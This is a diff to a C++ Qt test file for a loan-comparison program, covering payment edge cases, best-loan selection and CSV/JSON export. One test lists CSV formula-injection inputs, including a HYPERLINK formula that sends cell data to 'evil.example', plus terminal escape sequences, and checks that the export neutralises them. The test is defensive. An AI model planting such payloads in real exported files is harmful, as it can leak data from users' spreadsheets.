@@ -2,6 +2,7 @@
 #include "localeservices.h"
 #include "loananalysis.h"
 #include "measures.h"
+#include "profit.h"
 
 #include <QFile>
 #include <QJsonArray>
@@ -54,10 +55,11 @@ CDealRecord FiveLoans()
     return r;
 }
 
-// RFC 4180 read back: fields split at commas outside quotes, "" inside quotes is one quote.
-QList<QStringList> ParseCsv(const QByteArray &bytes)
+// RFC 4180 read back: fields split at the separator outside quotes, "" inside quotes is one
+// quote; a byte-order mark before the first line is no part of it.
+QList<QStringList> ParseCsv(const QByteArray &bytes, QChar separator = QLatin1Char(','))
 {
-    const QString text = QString::fromUtf8(bytes);
+    const QString text = QString::fromUtf8(bytes.startsWith("\xEF\xBB\xBF") ? bytes.mid(3) : bytes);
     QList<QStringList> lines(1);
     QString field;
     bool quoted = false;
@@ -72,7 +74,7 @@ QList<QStringList> ParseCsv(const QByteArray &bytes)
                 field += c;
         } else if (c == QLatin1Char('"')) {
             quoted = true;
-        } else if (c == QLatin1Char(',')) {
+        } else if (c == separator) {
             lines.last() << std::exchange(field, QString());
         } else if (c == QLatin1Char('\r') && text.mid(i + 1, 1) == QLatin1String("\n")) {
             lines.last() << std::exchange(field, QString());
@@ -243,38 +245,323 @@ private slots:
         QCOMPARE(FormatMeasure(one.debtServiceCoverage, MeasureUnit::Ratio), QStringLiteral("1.38"));
     }
 
-    // The CSV read back by a CSV reader gives the texts and plain numbers, in any locale; the
-    // JSON read back gives numbers and null.
+    // A down payment above the price is no loan: its report figures stay as the report has
+    // them (a negative payment), but it has no other figure and is never the best offer.
+    void aDownPaymentAbovePriceIsNoLoan_data()
+    {
+        QTest::addColumn<double>("down");
+        QTest::newRow("a million on 200,000") << 1000000.0;
+        QTest::newRow("a cent above the price") << 200000.01;
+    }
+    void aDownPaymentAbovePriceIsNoLoan()
+    {
+        QFETCH(double, down);
+        CDealRecord record = FiveLoans();
+        record.m_downPayment[4].m_value = down;
+        record.m_term[4].m_value = 30;
+        const CDealAnalysis deal = Analyze(record);
+        const CLoanAnalysis &loan = deal.loans[4];
+
+        const auto figures = Profit::Calculate(record);
+        QCOMPARE(loan.loanAmount.value, figures[Profit::LoanAmount][4]);
+        QCOMPARE(loan.principalAndInterest.value, figures[Profit::PrincipalAndInterest][4]);
+        QCOMPARE(loan.safetyCashFlow.value, figures[Profit::SafetyCashFlow][4]);
+        QVERIFY(loan.principalAndInterest.value < 0);
+        const QSet<QByteArray> reportFigures = {"loan_amount", "principal_and_interest",
+                                                "total_monthly_payment", "monthly_cash_flow",
+                                                "safety_cash_flow"};
+        for (const CLoanMeasure &measure : LoanMeasures()) {
+            const CMeasure m = measure.get(loan);
+            QCOMPARE(m.IsKnown(), reportFigures.contains(measure.key));
+            if (!m.IsKnown())
+                QCOMPARE(m.reason, QStringLiteral("The down payment is more than the price: there is no loan."));
+            const std::vector<int> best = BestLoans(deal, measure);
+            QVERIFY2(std::find(best.begin(), best.end(), 4) == best.end(), measure.key);
+            QVERIFY2(BestLoan(deal, measure) != 4, measure.key);
+        }
+        QVERIFY(loan.schedule.empty());
+        QCOMPARE(deal.mostSafetyCashFlow, 2);
+        const QJsonObject json = AnalysisExport::DealJson("deal.zant", record, deal);
+        QCOMPARE(json["most_safety_cash_flow"].toInt(), 3);
+        QVERIFY(json["loans"][4]["cash_on_cash"].isNull());
+        QVERIFY(json["loans"][4]["debt_service_coverage"].isNull());
+    }
+
+    // A payment beyond the range of a double is not a term of 0: every figure that needs it is
+    // unknown with the true reason, and nothing unknown is written as a number.
+    void aPaymentTooLargeToComputeSaysWhy_data()
+    {
+        QTest::addColumn<double>("price");
+        QTest::addColumn<double>("rate");
+        QTest::addColumn<double>("term");
+        QTest::addColumn<QString>("reason");
+        const QString rate = "The interest rate is too high for this term: the payment is too large to compute.";
+        const QString amount = "The loan amount is too large: the payment is too large to compute.";
+        QTest::newRow("100 % over 1,000 years") << 200000.0 << 100.0 << 1000.0 << rate;
+        QTest::newRow("1,000,000 % over 30 years") << 200000.0 << 1e6 << 30.0 << rate;
+        QTest::newRow("a price of 1.7e308") << 1.7e308 << 7.0 << 30.0 << amount;
+        QTest::newRow("a price of 1.7e308 without interest") << 1.7e308 << 0.0 << 0.05 << amount;
+        QTest::newRow("a term of 0") << 200000.0 << 7.0 << 0.0
+                                     << "The loan has no monthly payment: its term is 0 years.";
+    }
+    void aPaymentTooLargeToComputeSaysWhy()
+    {
+        QFETCH(double, price);
+        QFETCH(double, rate);
+        QFETCH(double, term);
+        QFETCH(QString, reason);
+        CDealRecord record = FiveLoans();
+        record.m_purchasePrice.m_value = price;
+        record.m_interestRate[0].m_value = rate;
+        record.m_term[0].m_value = term;
+        const CDealAnalysis deal = Analyze(record);
+        const CLoanAnalysis &loan = deal.loans[0];
+        for (const char *key : {"principal_and_interest", "total_monthly_payment", "monthly_cash_flow",
+                                "safety_cash_flow", "total_interest", "balance_1_year",
+                                "cash_on_cash", "debt_service_coverage", "highest_offer"}) {
+            QVERIFY2(!LoanMeasure(key).get(loan).IsKnown(), key);
+            QCOMPARE(LoanMeasure(key).get(loan).reason, reason);
+        }
+        for (const CLoanMeasure &measure : LoanMeasures())
+            QVERIFY2(!measure.get(loan).IsKnown() || std::isfinite(measure.get(loan).value), measure.key);
+        const QByteArray json = AnalysisExport::DealsJson({AnalysisExport::DealJson("deal.zant", record, deal)});
+        QVERIFY(!QJsonDocument::fromJson(json).isNull());
+        const QByteArray csv = AnalysisExport::DealsCsvHeader() + AnalysisExport::DealCsvLines("deal.zant", record, deal);
+        for (const char *bad : {"nan", "inf"}) {
+            QVERIFY2(!json.toLower().contains(bad), json.constData());
+            QVERIFY(!csv.toLower().contains(bad));
+        }
+    }
+
+    // One rule for the best loan in the window and the files: none stands out where every loan
+    // that can be compared shares the best value; otherwise the lowest number of those that do.
+    void bestLoanRule_data()
+    {
+        QTest::addColumn<QList<double>>("downPayments"); // of loans 1 to 5; -1: a term of 0
+        QTest::addColumn<int>("mostSafetyCashFlow");     // 1 to 5, 0 for none
+        QTest::addColumn<int>("leastInterest");
+        QTest::newRow("five alike") << QList<double>{20000, 20000, 20000, 20000, 20000} << 0 << 0;
+        QTest::newRow("two share the best") << QList<double>{20000, 50000, 20000, 50000, 20000} << 2 << 2;
+        QTest::newRow("one stands out") << QList<double>{20000, 20000, 20000, 20000, 60000} << 5 << 5;
+        QTest::newRow("the others cannot be computed") << QList<double>{-1, -1, 20000, -1, -1} << 3 << 3;
+        QTest::newRow("alike but for one that is no loan")
+            << QList<double>{20000, 20000, 20000, 20000, 900000} << 0 << 0;
+        QTest::newRow("none can be computed") << QList<double>{-1, -1, -1, -1, -1} << 0 << 0;
+    }
+    void bestLoanRule()
+    {
+        QFETCH(QList<double>, downPayments);
+        QFETCH(int, mostSafetyCashFlow);
+        QFETCH(int, leastInterest);
+        CDealRecord record = FiveLoans();
+        for (int k = 0; k < MAX_LOANS; ++k) {
+            record.m_downPayment[k].m_value = downPayments[k] < 0 ? 20000 : downPayments[k];
+            record.m_interestRate[k].m_value = 7;
+            record.m_term[k].m_value = downPayments[k] < 0 ? 0 : 30;
+            record.m_pmi[k].m_value = 0;
+        }
+        const CDealAnalysis deal = Analyze(record);
+        QCOMPARE(deal.mostSafetyCashFlow + 1, mostSafetyCashFlow);
+        QCOMPARE(deal.leastInterest + 1, leastInterest);
+        QCOMPARE(BestLoan(deal, LoanMeasure("safety_cash_flow")) + 1, mostSafetyCashFlow);
+        QCOMPARE(BestLoan(deal, LoanMeasure("total_interest")) + 1, leastInterest);
+        // The window marks every loan that shares the best value, the first of them named in
+        // the files.
+        const std::vector<int> marked = BestLoans(deal, LoanMeasure("safety_cash_flow"));
+        QCOMPARE(marked.empty(), mostSafetyCashFlow == 0);
+        if (!marked.empty())
+            QCOMPARE(marked.front() + 1, mostSafetyCashFlow);
+        const QJsonObject json = AnalysisExport::DealJson("deal.zant", record, deal);
+        QCOMPARE(json["most_safety_cash_flow"].isNull(), mostSafetyCashFlow == 0);
+        QCOMPARE(json["least_interest"].toInt(), leastInterest);
+    }
+
+    // Two different offers differ in every row that compares them; the totals that claim to be
+    // totals hold the down payment; a purchase in cash has no highest offer.
+    void rowsTellOffersApart()
+    {
+        const CDealRecord record = FiveLoans();
+        const CDealAnalysis deal = Analyze(record);
+        for (const CLoanMeasure &measure : LoanMeasures()) {
+            const CMeasure one = measure.get(deal.loans[0]);
+            const CMeasure two = measure.get(deal.loans[1]);
+            QVERIFY2(one.IsKnown() && two.IsKnown() && one.value != two.value, measure.key);
+        }
+        const auto row = [](const char *label) {
+            for (const CLoanMeasure &measure : LoanMeasures()) {
+                if (QByteArray(measure.label) == label)
+                    return &measure;
+            }
+            return static_cast<const CLoanMeasure *>(nullptr);
+        };
+        QVERIFY(row("Total of Payments"));
+        // The payments alone are no total: the cash purchase pays none and is not the best.
+        QCOMPARE(BestLoan(deal, *row("Total of Payments")), -1);
+        const CLoanMeasure *cost = row("Total Cost (Down Payment and Payments)");
+        QVERIFY(cost);
+        QCOMPARE(Cents(cost->get(deal.loans[0]).value), Cents(20000 + 360 * Pmt(180000, 7, 360)));
+        QCOMPARE(cost->get(deal.loans[2]).value, 200000.0);
+        QCOMPARE(BestLoan(deal, *cost), 2);
+
+        const CMeasure offer = LoanMeasure("highest_offer").get(deal.loans[2]);
+        QVERIFY(!offer.IsKnown());
+        QCOMPARE(offer.reason, QStringLiteral("There is no loan amount: a higher price would need a loan that no one offered."));
+        QVERIFY(LoanMeasure("highest_offer").get(deal.loans[0]).IsKnown());
+    }
+
+    // A text of the deal that a spreadsheet would run as a formula comes out as plain text, in
+    // every CSV and every column that carries one: the file's name, the description, the lender.
+    void csvTextsNeverRunAsFormulas_data()
+    {
+        QTest::addColumn<QString>("text");
+        QTest::addColumn<QString>("cell");
+        QTest::newRow("sum") << "=2+2" << "'=2+2";
+        QTest::newRow("at") << "@SUM(A1:A2)" << "'@SUM(A1:A2)";
+        QTest::newRow("plus") << "+4" << "'+4";
+        QTest::newRow("minus") << "-2+3" << "'-2+3";
+        QTest::newRow("spaces before") << "  =1+1" << "'  =1+1";
+        QTest::newRow("link") << "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")"
+                              << "'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")";
+        QTest::newRow("equals inside") << "Harbor = Bank" << "Harbor = Bank";
+        QTest::newRow("plain") << "Harbor Bank" << "Harbor Bank";
+        // Control characters reach no terminal or spreadsheet; a cell stays on its line.
+        QTest::newRow("tab") << "\t=1+1" << "' =1+1";
+        QTest::newRow("carriage return") << "\rX" << "' X";
+        QTest::newRow("NUL and escape") << QString::fromUtf8("A\0B\x1b]2;T\x07" "C", 10) << "A B ]2;T C";
+        QTest::newRow("delete") << "A\x7f" "B" << "A B";
+        QTest::newRow("line ends") << QString::fromUtf8("First\nSecond\r\nThird\u2028Fourth")
+                                   << "First Second  Third Fourth";
+    }
+    void csvTextsNeverRunAsFormulas()
+    {
+        QFETCH(QString, text);
+        QFETCH(QString, cell);
+        CDealRecord record = FiveLoans();
+        record.m_strLender[1] = text;
+        record.m_strDescription = text;
+        const CDealAnalysis deal = Analyze(record);
+
+        const QList<QStringList> comparison = ParseCsv(AnalysisExport::ComparisonCsv(record, deal));
+        QCOMPARE(comparison.at(1).at(2), cell);
+        const QList<QStringList> many = ParseCsv(AnalysisExport::DealsCsvHeader()
+                                                 + AnalysisExport::DealCsvLines(text + ".zant", record, deal));
+        const QStringList &second = many.at(2);
+        QCOMPARE(second.at(many.at(0).indexOf("file")), cell + ".zant");
+        QCOMPARE(second.at(many.at(0).indexOf("description")), cell);
+        QCOMPARE(second.at(many.at(0).indexOf("lender")), cell);
+    }
+
+    // Figures the program writes stay numbers, a loss with its minus sign.
+    void csvNegativeFiguresStayNumbers()
+    {
+        CDealRecord record = FiveLoans();
+        record.m_interestRate[1].m_value = 20;
+        const CDealAnalysis deal = Analyze(record);
+        QVERIFY(deal.loans[1].safetyCashFlow.value < 0);
+        const QString expected = QString::number(deal.loans[1].safetyCashFlow.value, 'f', 2);
+        const QList<QStringList> many = ParseCsv(AnalysisExport::DealsCsvHeader()
+                                                 + AnalysisExport::DealCsvLines("deal.zant", record, deal));
+        QCOMPARE(many.at(2).at(many.at(0).indexOf("safety_cash_flow")), expected);
+        const QList<QStringList> comparison = ParseCsv(AnalysisExport::ComparisonCsv(record, deal));
+        bool found = false;
+        for (const QStringList &line : comparison)
+            found = found || (line.constFirst() == "Safety Cash Flow" && line.at(2) == expected);
+        QVERIFY(found);
+    }
+
+    // The window's CSV for the user's spreadsheet: a byte-order mark, the locale's decimal
+    // separator and ";" between cells where that separator is ","; it carries what was typed,
+    // and the schedule says whose it is.
+    void spreadsheetCsvFollowsTheLocale_data()
+    {
+        QTest::addColumn<QString>("locale");
+        QTest::addColumn<QString>("separator");
+        QTest::addColumn<QString>("point");
+        QTest::newRow("en_US") << "en_US" << "," << ".";
+        QTest::newRow("de_DE") << "de_DE" << ";" << ",";
+        QTest::newRow("fr_FR") << "fr_FR" << ";" << ",";
+        QTest::newRow("de_CH") << "de_CH" << "," << ".";
+    }
+    void spreadsheetCsvFollowsTheLocale()
+    {
+        QFETCH(QString, locale);
+        QFETCH(QString, separator);
+        QFETCH(QString, point);
+        CLocaleServices::PinLocale(locale);
+        CDealRecord record = FiveLoans();
+        record.m_strDescription = QStringLiteral("Duplex; Elm St.");
+        record.m_interestRate[1].m_value = 6.875;
+        const CDealAnalysis deal = Analyze(record);
+        const auto decimal = [&point](const char *number) { return QString::fromLatin1(number).replace(".", point); };
+
+        const QByteArray bytes = AnalysisExport::ComparisonCsv(record, deal);
+        QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
+        const QList<QStringList> comparison = ParseCsv(bytes, separator.at(0));
+        for (const QStringList &line : comparison)
+            QCOMPARE(line.size(), 1 + MAX_LOANS);
+        const auto row = [&](int at) {
+            QStringList line = comparison.at(at);
+            line.removeFirst();
+            return line;
+        };
+        const auto rowOf = [&](const char *label) {
+            for (int at = 0; at < comparison.size(); ++at) {
+                if (comparison.at(at).constFirst() == QCoreApplication::translate("Analysis", label))
+                    return row(at);
+            }
+            return QStringList();
+        };
+        QCOMPARE(row(1).constFirst(), QStringLiteral("First, \"Best\" Bank Branch 2"));
+        QCOMPARE(row(2), QStringList(5, record.m_strDescription));
+        QCOMPARE(row(3), QStringList(5, decimal("200000.00")));          // the price
+        QCOMPARE(row(7), QStringList(5, decimal("0.100000")));           // the safety margin
+        QCOMPARE(row(8), QStringList({decimal("20000.00"), decimal("40000.00"), decimal("200000.00"),
+                                      decimal("20000.00"), decimal("20000.00")}));
+        QCOMPARE(row(9), QStringList({decimal("0.070000"), decimal("0.068750"), decimal("0.070000"),
+                                      decimal("0.000000"), decimal("0.070000")}));
+        QCOMPARE(row(10), QStringList({"30", "15", "30", "30", "0"}));
+        QCOMPARE(rowOf("Total Interest").at(0), decimal("251116.02"));
+        QCOMPARE(rowOf("Total Interest").at(4), QString());
+        QCOMPARE(rowOf("Cap Rate").at(0), decimal("0.099000"));
+
+        const QByteArray scheduleBytes = AnalysisExport::ScheduleCsv(record, 1, deal.loans[1].schedule, false);
+        QVERIFY(scheduleBytes.startsWith("\xEF\xBB\xBF"));
+        const QList<QStringList> schedule = ParseCsv(scheduleBytes, separator.at(0));
+        QCOMPARE(schedule.size(), 2 + 180);
+        QCOMPARE(schedule.at(0).constFirst(), QCoreApplication::translate("Analysis", "Loan %1").arg(2));
+        record.m_strLender[1] = QStringLiteral("Harbor Bank");
+        const QList<QStringList> named = ParseCsv(AnalysisExport::ScheduleCsv(record, 1, YearlySummary(deal.loans[1].schedule), true),
+                                                  separator.at(0));
+        QCOMPARE(named.at(0).constFirst(), QCoreApplication::translate("Analysis", "Loan %1: %2").arg("2", "Harbor Bank"));
+        QCOMPARE(named.size(), 2 + 15);
+        for (const QStringList &line : named)
+            QCOMPARE(line.size(), 5);
+        const QString first = decimal(qPrintable(QString::number(deal.loans[1].schedule.front().payment, 'f', 2)));
+        QCOMPARE(schedule.at(2).at(1), first);
+        QCOMPARE(schedule.last().at(4), decimal("0.00"));
+        CLocaleServices::PinLocale(QStringLiteral("en_US"));
+    }
+
+    // The command line's CSV is for scripts in any locale: "," and "." and one unit per kind
+    // (shares as fractions, terms as typed); the JSON read back gives numbers and null.
     void filesReadBack()
     {
         CLocaleServices::PinLocale(QStringLiteral("de_DE"));
         const CDealRecord record = FiveLoans();
         const CDealAnalysis deal = Analyze(record);
-        const QList<QStringList> comparison = ParseCsv(AnalysisExport::ComparisonCsv(record, deal));
-        QCOMPARE(comparison.size(), 2 + int(LoanMeasures().size() + PropertyMeasures().size()));
-        QCOMPARE(comparison.at(1).at(1), record.m_strLender[0]);
-        for (const QStringList &line : comparison)
-            QCOMPARE(line.size(), 1 + MAX_LOANS);
-        const auto row = [&](const char *label) {
-            for (const QStringList &line : comparison)
-                if (line.constFirst() == QLatin1String(label))
-                    return line;
-            return QStringList();
-        };
-        QCOMPARE(row("Total Interest").mid(1),
-                 QStringList({"251116.02", "90878.92", "0.00", "0.00", ""}));
-        QCOMPARE(row("Cap Rate").at(1), QStringLiteral("0.099000"));
-
-        const QList<QStringList> schedule = ParseCsv(AnalysisExport::ScheduleCsv(deal.loans[0].schedule, false));
-        QCOMPARE(schedule.size(), 361);
-        QCOMPARE(schedule.at(1), QStringList({"1", "1197.54", "147.54", "1050.00", "179852.46"}));
-        QCOMPARE(schedule.last().at(4), QStringLiteral("0.00"));
-
         const QList<QStringList> many = ParseCsv(AnalysisExport::DealsCsvHeader()
                                                  + AnalysisExport::DealCsvLines(QStringLiteral("a, b.zant"), record, deal));
         QCOMPARE(many.size(), 1 + MAX_LOANS);
         QCOMPARE(many.at(1).at(0), QStringLiteral("a, b.zant"));
-        QCOMPARE(many.at(1).at(many.at(0).indexOf(QStringLiteral("total_interest"))), QStringLiteral("251116.02"));
+        const auto cell = [&many](int line, const char *key) { return many.at(line).at(many.at(0).indexOf(key)); };
+        QCOMPARE(cell(1, "total_interest"), QStringLiteral("251116.02"));
+        QCOMPARE(cell(1, "interest_rate"), QStringLiteral("0.070000"));
+        QCOMPARE(cell(1, "safety_margin"), QStringLiteral("0.100000"));
+        QCOMPARE(cell(1, "cap_rate"), QStringLiteral("0.099000"));
+        QCOMPARE(cell(2, "term_years"), QStringLiteral("15"));
+        QCOMPARE(cell(2, "down_payment"), QStringLiteral("40000.00"));
+        for (const QString &key : many.at(0))
+            QVERIFY2(!key.endsWith("_percent"), qPrintable(key));
 
         const QJsonDocument json = QJsonDocument::fromJson(
             AnalysisExport::DealsJson({AnalysisExport::DealJson(QStringLiteral("deal.zant"), record, deal)}));
@@ -284,6 +571,9 @@ private slots:
         QVERIFY(first[QStringLiteral("loans")][4][QStringLiteral("total_interest")].isNull());
         QCOMPARE(first[QStringLiteral("property")][QStringLiteral("cap_rate")].toDouble(), 0.099);
         QCOMPARE(first[QStringLiteral("most_safety_cash_flow")].toInt(), 3);
+        QCOMPARE(first["loans"][1]["interest_rate"].toDouble(), 0.065);
+        QCOMPARE(first["loans"][1]["interest_rate_percent"].toDouble(), 6.5);
+        QCOMPARE(first["property"]["safety_margin"].toDouble(), 0.1);
         CLocaleServices::PinLocale(QStringLiteral("en_US"));
     }
 };
